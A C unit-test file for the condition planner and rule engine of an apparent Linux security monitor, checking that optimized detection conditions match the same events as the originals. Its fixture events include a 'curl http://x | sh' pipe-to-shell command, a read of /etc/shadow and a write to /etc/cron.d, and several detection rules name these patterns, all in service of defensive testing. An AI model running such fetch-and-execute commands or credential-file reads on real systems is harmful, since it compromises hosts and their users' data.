// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* Unit tests for user/cond_plan.c: a plan must match exactly the events its
 * condition matches (among those it is planned for), whatever it folded or
 * reordered; and the engine must fall back to the condition as compiled
 * when an event's event.action is not exactly one value. No root needed. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cjson/cJSON.h>

#include "cond.h"
#include "engine.h"
#include "fields.h"
#include "rules.h"

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

static const char *const events[] = {
	/* exec with ancestry and args */
	"{\"process\":{\"pid\":17165,\"executable\":\"/usr/bin/dash\",\"name\":\"sh\","
	"\"args\":[\"sh\",\"-c\",\"curl http://x | sh\"],\"args_count\":3,"
	"\"command_line\":\"sh -c curl http://x | sh\","
	"\"parent\":{\"pid\":17160,\"executable\":\"/tmp/tgdoc/tgtrig\"},"
	"\"ancestors\":[{\"pid\":17160,\"executable\":\"/tmp/tgdoc/tgtrig\"},"
	"{\"pid\":1,\"executable\":\"/usr/lib/systemd/systemd\"}]},"
	"\"user\":{\"id\":1000},\"event\":{\"type\":[\"start\"],\"action\":\"exec\"},"
	"\"twinguard\":{\"exe_memfd\":false,\"exe_deleted\":true}}",
	/* open for reading */
	"{\"process\":{\"pid\":17166,\"executable\":\"/tmp/tgdoc/tgtrig\",\"name\":\"tgtrig\"},"
	"\"user\":{\"id\":65534},\"event\":{\"type\":[\"access\"],\"action\":\"open\","
	"\"outcome\":\"failure\"},\"twinguard\":{\"open_flags\":[\"O_RDONLY\",\"O_CLOEXEC\"]},"
	"\"file\":{\"path\":\"/etc/shadow\",\"name\":\"shadow\"}}",
	/* open for writing */
	"{\"process\":{\"pid\":5,\"executable\":\"/usr/bin/cp\",\"name\":\"cp\"},"
	"\"user\":{\"id\":0},\"event\":{\"type\":[\"change\",\"creation\"],\"action\":\"open\","
	"\"outcome\":\"success\"},\"twinguard\":{\"open_flags\":[\"O_WRONLY\",\"O_TRUNC\"]},"
	"\"file\":{\"path\":\"/etc/cron.d/x\",\"name\":\"x\"}}",
	/* connect */
	"{\"process\":{\"pid\":300,\"executable\":\"/opt/twin/bin/sim\",\"name\":\"sim\"},"
	"\"event\":{\"action\":\"connect\",\"outcome\":\"success\"},"
	"\"destination\":{\"ip\":\"10.0.0.5\",\"port\":1883}}",
	/* no action at all, and a second action value */
	"{\"process\":{\"pid\":1,\"name\":\"init\"},\"file\":{\"path\":\"/etc/shadow\"}}",
	"{\"process\":{\"pid\":2,\"name\":\"sh\"},\"event\":{\"action\":[\"open\",\"exec\"]},"
	"\"file\":{\"path\":\"/etc/shadow\"}}",
};

static const char *const conds[] = {
	"event.action = open",
	"event.action = exec and process.name = sh",
	"not event.action = open",
	"event.action != exec",
	"event.action exists and user.id = 0",
	"event.action in (rename, link) or (event.action = open and event.type in (change))",
	"(event.action = open and twinguard.open_flags in (O_RDONLY, O_RDWR) and "
	"not twinguard.open_flags in (O_DIRECTORY, O_PATH)) and file.path in (/etc/shadow) and "
	"not process.executable in (/usr/bin/passwd)",
	"event.action = exec and (process.command_line contains curl or process.args = '-c') and "
	"not process.ancestors.executable glob '/usr/lib/*'",
	"event.action glob 'o*' and (file.path pmatch (/etc) or user.id > 1000)",
	"(event.action = connect or event.action = open) and not (process.pid < 10 or "
	"destination.port in (22, 1883))",
	"event.action startswith ex or event.action endswith en or event.action contains onn",
	"process.pid > 100 and (file.name = shadow or not user.id exists)",
	"not (event.action = open or event.action = exec) and process.pid exists",
};

static const char *const actions[] = { "open", "exec", "connect", "rename" };

static struct tg_cond *compile(const char *text)
{
	struct tg_cond_error err;
	struct tg_cond *c = cond_compile(text, NULL, &err);

	cr_assert_not_null(c, "'%s': %s", text, err.msg);
	return c;
}

static struct tg_view *view_of(const char *json, cJSON **j)
{
	struct tg_view *v = malloc(sizeof(*v));

	cr_assert_not_null(v);
	*j = cJSON_Parse(json);
	cr_assert_not_null(*j);
	view_init(v);
	cr_assert_eq(view_fill(v, *j, NULL), 0);
	return v;
}

/* The event's action when it has exactly one, else NULL. */
static const char *only_action(const struct tg_view *v)
{
	const struct tg_val *vals;

	return view_get(v, fields_lookup("event.action"), &vals) == 1 ? vals[0].s : NULL;
}

Test(cond_plan, same_answers_as_the_condition)
{
	int act = fields_lookup("event.action");

	for (size_t e = 0; e < ARRAY_SIZE(events); e++) {
		cJSON *j;
		struct tg_view *v = view_of(events[e], &j);
		const char *a = only_action(v);

		for (size_t i = 0; i < ARRAY_SIZE(conds); i++) {
			struct tg_cond *c = compile(conds[i]);
			struct tg_cond *any = cond_plan(c, -1, NULL);
			struct tg_cond *p = a ? cond_plan(c, act, a) : NULL;
			bool want = cond_eval(c, v);

			cr_assert_not_null(any);
			cr_assert_eq(cond_eval(any, v), want, "'%s', event %zu, reordered", conds[i], e);
			if (a) {
				cr_assert_not_null(p);
				cr_assert_eq(cond_eval(p, v), want, "'%s', event %zu, planned for %s",
					     conds[i], e, a);
				cr_assert(!cond_never_matches(p) || !want, "'%s': never, yet matched",
					  conds[i]);
			}
			cond_free(p);
			cond_free(any);
			cond_free(c);
		}
		free(v);
		cJSON_Delete(j);
	}
}

/* A plan's verdict on an empty view shows what it folded: nothing is left
 * to read there. */
static int folded(const char *text, const char *action)
{
	struct tg_cond *c = compile(text);
	struct tg_cond *p = cond_plan(c, fields_lookup("event.action"), action);
	struct tg_view *v = malloc(sizeof(*v));
	int r;

	cr_assert_not_null(p);
	cr_assert_not_null(v);
	view_init(v);
	r = cond_never_matches(p) ? 0 : cond_eval(p, v) ? 1 : 2;
	free(v);
	cond_free(p);
	cond_free(c);
	return r;
}

Test(cond_plan, folds_the_planned_field)
{
	for (size_t i = 0; i < ARRAY_SIZE(actions); i++)
		cr_assert_eq(folded("event.action exists", actions[i]), 1);
	cr_assert_eq(folded("event.action = open", "open"), 1);
	cr_assert_eq(folded("event.action = open", "exec"), 0);
	cr_assert_eq(folded("not event.action = open", "open"), 0);
	cr_assert_eq(folded("event.action != exec", "open"), 1);
	cr_assert_eq(folded("event.action in (rename, link) or event.action = open", "open"), 1);
	cr_assert_eq(folded("event.action in (rename, link) and user.id = 0", "open"), 0);
	cr_assert_eq(folded("event.action glob 'o*' or user.id = 0", "open"), 1);
	/* what is left is read from the event: absent on an empty view */
	cr_assert_eq(folded("event.action = open and user.id = 0", "open"), 2);
	cr_assert_eq(folded("event.action = open and not user.id = 0", "open"), 1);
}

static char g_order[256];

static void record(void *ctx, int field, const char *op, const char *value)
{
	size_t len = strlen(g_order);

	(void)ctx;
	(void)value;
	snprintf(g_order + len, sizeof(g_order) - len, "%s%s %s", len ? ", " : "",
		 fields_get(field)->name, op);
}

static void expect_order(const char *text, const char *order)
{
	struct tg_cond *c = compile(text);
	struct tg_cond *p = cond_plan(c, fields_lookup("event.action"), "open");

	cr_assert_not_null(p);
	g_order[0] = 0;
	cond_walk(p, record, NULL);
	cr_assert_str_eq(g_order, order, "'%s': %s", text, g_order);
	cond_free(p);
	cond_free(c);
}

Test(cond_plan, cheap_and_decisive_members_first)
{
	expect_order("process.command_line contains x and process.pid = 1",
		     "process.pid =, process.command_line contains");
	expect_order("not process.name in (a, b) and file.path glob '/etc/*' and user.id = 0",
		     "user.id =, file.path glob, process.name in, process.name in");
	expect_order("process.command_line icontains x or file.name endswith y or user.id = 0",
		     "user.id =, file.name endswith, process.command_line icontains");
	/* equal estimates keep the written order */
	expect_order("user.id = 0 and group.id = 0", "user.id =, group.id =");
	/* an or left with one and member splices in */
	expect_order("process.pid = 1 and (event.action = exec or (user.id = 0 and "
		     "process.command_line contains x))",
		     "process.pid =, user.id =, process.command_line contains");
}

Test(cond_plan, null_and_unplanned)
{
	struct tg_cond *c = compile("event.action = open");
	struct tg_cond *p = cond_plan(c, fields_lookup("event.action"), NULL);

	cr_assert_null(cond_plan(NULL, -1, NULL));
	cr_assert_not_null(p);
	cr_assert_not(cond_never_matches(p));
	cond_free(p);
	cond_free(c);
}

static void add_required(void *ctx, int field)
{
	char *out = ctx;
	size_t len = strlen(out);

	snprintf(out + len, 256 - len, "%s%s", len ? ", " : "", fields_get(field)->name);
}

static void expect_required(const char *text, const char *fields)
{
	struct tg_cond *c = compile(text);
	char got[256] = "";

	cond_required(c, add_required, got);
	cr_assert_str_eq(got, fields, "'%s': %s", text, got);
	cond_free(c);
}

Test(cond_plan, required_fields)
{
	expect_required("user.id = 0 and process.name = sh", "user.id, process.name");
	expect_required("user.id = 0 or process.name = sh", "");
	expect_required("(user.id = 0 and file.path = x) or (user.id > 3 and file.name = y)",
			"user.id");
	expect_required("not user.id = 0", "");
	expect_required("user.id != 0 and process.pid < 3", "process.pid");
	expect_required("process.args exists and not file.path = x", "process.args");
	expect_required("process.args[2] = x", "process.args");
}

static size_t g_alerts;

static void count(void *ctx, const struct tg_alert *a)
{
	(void)ctx;
	(void)a;
	g_alerts++;
}

/* An event with two action values is in the bucket of the first, where
 * the plans assume it is the only one: the engine must run the conditions
 * as compiled instead, in which "event.action = exec" holds for it. */
Test(cond_plan, engine_falls_back_when_action_is_not_one_value)
{
	static const char *const texts[] = {
		"event.action = open and process.name = sh",
		"event.action = open and not event.action = exec",
		"event.action = open and event.action != exec",
	};
	struct tg_rule rules[ARRAY_SIZE(texts)];
	struct tg_ruleset rs = { .rules = rules, .n_rules = ARRAY_SIZE(texts) };
	struct tg_engine *e;
	cJSON *j;
	struct tg_view *v = view_of(events[5], &j);

	for (size_t i = 0; i < ARRAY_SIZE(texts); i++)
		rules[i] = (struct tg_rule){ .name = (char *)"r", .output = (char *)"x",
					     .enabled = true, .kind = TG_RULE_EVENT,
					     .sum_field = -1, .cond = compile(texts[i]) };
	e = engine_new(&rs, NULL);
	cr_assert_not_null(e);
	g_alerts = 0;
	engine_eval(e, v, 1, count, NULL);
	cr_assert_eq(g_alerts, 1, "%zu alerts, wanted the first rule's only", g_alerts);
	engine_free(e);
	for (size_t i = 0; i < ARRAY_SIZE(texts); i++)
		cond_free(rules[i].cond);
	free(v);
	cJSON_Delete(j);
}
